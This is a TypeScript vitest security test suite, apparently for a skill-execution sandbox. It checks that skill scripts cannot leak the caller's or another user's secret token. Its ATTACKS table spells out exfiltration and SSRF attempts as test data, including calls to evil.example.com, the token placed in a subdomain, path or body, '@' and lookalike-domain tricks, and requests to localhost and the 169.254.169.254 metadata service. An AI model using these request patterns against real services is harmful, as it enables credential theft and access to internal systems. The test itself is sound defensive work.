// What skill code sends to read a value or to send it elsewhere: in each setting of whose code runs, in isolates and on an executor. The
// caller has a value of their own, and another user of the same skill has one, too.

import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import { call, keyFor } from "../../support/call";
import { publishOwn, publishPublic, type Result, talk } from "../../support/chat-turns";
import { FAKE_EXECUTOR, fakeExecutor, type ScriptRequest, SENDING_SCRIPT } from "../../support/fake-executor";
import { logged } from "../../support/logs";
import type { SkillFixture } from "../../support/skill";
import { approve, HOSTS, imitateHosts, NETWORK, type Sent, said, setEnv } from "../../support/skill-network";
import { changeSettings } from "../../support/world/main";

const MINE = "value-of-the-caller/0123456789";
const THEIRS = "value-of-another-user+9876543210";
const URL = "https://api.example.org/json";
const AUTHORIZED = { authorization: "Bearer $TOKEN" };

let sent: Sent[] = [];
beforeEach(() => {
  sent = imitateHosts(fakeExecutor);
});
afterEach(() => {
  vi.restoreAllMocks();
});

/** A request, and what its script sees. Without `reaches`, nothing is sent. */
interface Attack {
  request: ScriptRequest;
  sees: RegExp;
  reaches?: true;
}

const ATTACKS: Record<string, Attack> = {
  "another approved host": {
    request: { url: "https://files.example.org/json", headers: AUTHORIZED },
    sees: /is not bound to the host files\.example\.org/,
  },
  "a host that is not approved": {
    request: { url: "https://new.example.org/json", headers: AUTHORIZED },
    sees: /declared, but not approved/,
  },
  "a host that is not declared": {
    request: { url: "https://evil.example.com/", headers: AUTHORIZED },
    sees: /cannot call/,
  },
  "the name of a host, which is looked up": {
    request: { url: "https://$TOKEN.example.com/" },
    sees: /cannot call|not allowed/,
  },
  "a host below the approved one": {
    request: { url: "https://a.api.example.org/", headers: AUTHORIZED },
    sees: /cannot call/,
  },
  "a host that ends alike": {
    request: { url: "https://evilapi.example.org/", headers: AUTHORIZED },
    sees: /cannot call/,
  },
  "the approved name in another domain": {
    request: { url: "https://api.example.org.evil.com/", headers: AUTHORIZED },
    sees: /cannot call/,
  },
  "the approved name before an @": {
    request: { url: "https://api.example.org@evil.example.com/", headers: AUTHORIZED },
    sees: /not allowed|credentials|cannot call/,
  },
  "another port": { request: { url: "https://api.example.org:8443/", headers: AUTHORIZED }, sees: /cannot call/ },
  "port 80": { request: { url: "https://api.example.org:80/", headers: AUTHORIZED }, sees: /cannot call|not allowed/ },
  "plain http": { request: { url: "http://api.example.org/json", headers: AUTHORIZED }, sees: /cannot call|https/ },
  "the path": { request: { url: "https://api.example.org/$TOKEN" }, sees: /in headers only/ },
  "the query": { request: { url: "https://api.example.org/json?a=$TOKEN" }, sees: /in headers only/ },
  "the body": { request: { url: URL, method: "POST", body: '{"a":"$TOKEN"}' }, sees: /in headers only/ },
  "a redirect to another host": {
    request: { url: "https://api.example.org/out", headers: AUTHORIZED },
    ...{ sees: /redirects are not followed/, reaches: true },
  },
  "a redirect to http": {
    request: { url: "https://api.example.org/to-http", headers: AUTHORIZED },
    ...{ sees: /redirects are not followed/, reaches: true },
  },
  "a Host header": {
    request: { url: URL, headers: { ...AUTHORIZED, Host: "evil.example.com" } },
    ...{ sees: /^200 .*"host":"api\.example\.org"/, reaches: true },
  },
  "a host that returns it": { request: { url: URL, headers: AUTHORIZED }, sees: /\[secret TOKEN\]/, reaches: true },
  "a host that returns it in base64": {
    request: { url: "https://api.example.org/base64", headers: { "x-key": "$TOKEN" } },
    ...{ sees: /\[secret TOKEN\]/, reaches: true },
  },
  "the placeholder of another user": {
    request: { url: URL, headers: { authorization: "Bearer $THEIRS" } },
    ...{ sees: /^200 .*skillgate_TOKEN_/, reaches: true },
  },
  "the placeholder of another user in the path": {
    request: { url: "https://api.example.org/json?$THEIRS" },
    ...{ sees: /^200 /, reaches: true },
  },
  "the placeholder of another skill": {
    request: { url: URL, headers: { authorization: "Bearer $OTHER_SKILL" } },
    ...{ sees: /^200 .*skillgate_TOKEN_/, reaches: true },
  },
  "this machine": { request: { url: "http://127.0.0.1:8787/health" }, sees: /cannot call|not allowed/ },
  "this machine as a number": { request: { url: "https://2130706433/" }, sees: /cannot call|not allowed/ },
  "a metadata service": { request: { url: "http://169.254.169.254/latest/meta-data" }, sees: /not allowed/ },
  "a method for tunnels": {
    request: { url: URL, method: "CONNECT", headers: AUTHORIZED },
    sees: /not allowed|unsupported|CONNECT/i,
  },
};

const FILES = {
  "scripts/main.cjs": SENDING_SCRIPT,
  // An executor runs it, because isolates do not have the package.
  "scripts/main.py": "import numpy\n",
};
const EXECUTORS = { isolate: "scripts/main.cjs", remote: "scripts/main.py" } as const;
const SCOPES = ["public", "groups", "users"] as const;

describe.each(SCOPES)("with CODE_SCOPES=%s", (scope) => {
  const [caller, other] = [`caller-${scope}`, `other-${scope}`];
  let mine: { name: string; key: string };
  let placeholders: { THEIRS: string; OTHER_SKILL: string };

  beforeAll(async () => {
    // Publishing asks the executor what it has.
    imitateHosts(fakeExecutor);
    changeSettings({ CODE_SCOPES: scope, EXECUTOR_SCOPES: scope, ...FAKE_EXECUTOR });
    const [key, otherKey] = await Promise.all([caller, other].map((user) => keyFor(user)));
    if (scope === "groups") {
      await call("POST", "/api/v1/groups", { json: { name: "attack-team" } });
      for (const user of [caller, other])
        await call("PUT", `/api/v1/groups/attack-team/members/${user}`, { json: { role: "Developer" } });
    }
    const skill = (name: string): SkillFixture => ({ name, frontmatter: NETWORK, files: FILES });
    /** A user's own skill belongs to this user; each of the others is one skill for both users. */
    async function publish(name: string, owner: string): Promise<string> {
      const { id } = await (scope === "public"
        ? publishPublic(skill(name))
        : publishOwn(owner, skill(name), scope === "groups" ? "attack-team" : "default"));
      await approve(id, ...HOSTS);
      return id;
    }
    const [name, second] = [`attacked-${scope}`, `second-${scope}`];
    const id = await publish(name, key ?? "");
    const theirs = scope === "users" ? await publish(name, otherKey ?? "") : id;
    await setEnv(caller, id, "TOKEN", MINE, [HOSTS[0] ?? ""]);
    await setEnv(other, theirs, "TOKEN", THEIRS, [HOSTS[0] ?? ""]);
    await setEnv(caller, await publish(second, key ?? ""), "TOKEN", THEIRS, [HOSTS[0] ?? ""]);
    mine = { name, key: key ?? "" };
    const placeholderOf = async (user: string, skillName: string) => {
      const { structuredContent } = await run(user, skillName, "isolate", []);
      return /skillgate_TOKEN_[0-9a-f]{24}/.exec(String(structuredContent?.stdout))?.[0] ?? "none";
    };
    placeholders = {
      THEIRS: await placeholderOf(otherKey ?? "", name),
      OTHER_SKILL: await placeholderOf(key ?? "", second),
    };
    vi.restoreAllMocks();
  });
  afterAll(() => changeSettings(null));

  async function run(key: string, name: string, executor: keyof typeof EXECUTORS, requests: ScriptRequest[]) {
    const chat = await talk({ key });
    const input = JSON.stringify({ env: placeholders, requests });
    return chat.use("execute_skill_script", { skill_name: name, script_path: EXECUTORS[executor], input });
  }

  function expectHarmless(result: Result): void {
    const seen = JSON.stringify([result, logged(/./)]);
    for (const value of [MINE, THEIRS])
      for (const form of [value, btoa(value), encodeURIComponent(value)]) expect(seen).not.toContain(form);
    for (const { url, headers, body } of sent) {
      expect(JSON.stringify([url, headers, body])).not.toContain(THEIRS);
      expect(url + body).not.toContain(MINE);
      if (JSON.stringify(headers).includes(MINE)) expect(url).toMatch(/^https:\/\/api\.example\.org\//);
    }
  }

  describe.each(["isolate", "remote"] as const)("a script in the executor '%s'", (executor) => {
    it.each(Object.entries(ATTACKS))("cannot use %s", async (_, { request, sees, reaches = false }) => {
      const result = await run(mine.key, mine.name, executor, [request]);
      expect(result.structuredContent).toMatchObject({ executor, exit_code: 0 });
      const [shown] = JSON.parse(String(result.structuredContent?.stdout).split("\n")[0] ?? "") as string[];
      expect(shown).toMatch(sees);
      expect(sent.length > 0, sent.map(({ url }) => url).join(", ")).toBe(reaches);
      expectHarmless(result);
    });

    it("has the caller's own value, which only the approved host receives", async () => {
      const result = await run(mine.key, mine.name, executor, [{ url: URL, headers: AUTHORIZED }]);
      expect(said(result)).toContain("[secret TOKEN]");
      expect(sent.map(({ headers }) => headers.authorization)).toEqual([`Bearer ${MINE}`]);
      expectHarmless(result);
    });

    it("of a user without a value has none, although another user of the skill has one", async () => {
      if (scope === "users") return;
      const user = `without-${scope}-${executor}`;
      const key = await keyFor(user);
      if (scope === "groups")
        await call("PUT", `/api/v1/groups/attack-team/members/${user}`, { json: { role: "Reporter" } });
      const result = await run(key, mine.name, executor, [{ url: URL, headers: AUTHORIZED }]);
      expect(result.structuredContent?.missing_env).toEqual(["TOKEN", "OTHER"]);
      expect(sent.map(({ headers }) => headers.authorization ?? "")).not.toContain(`Bearer ${MINE}`);
      expectHarmless(result);
    });
  });
});
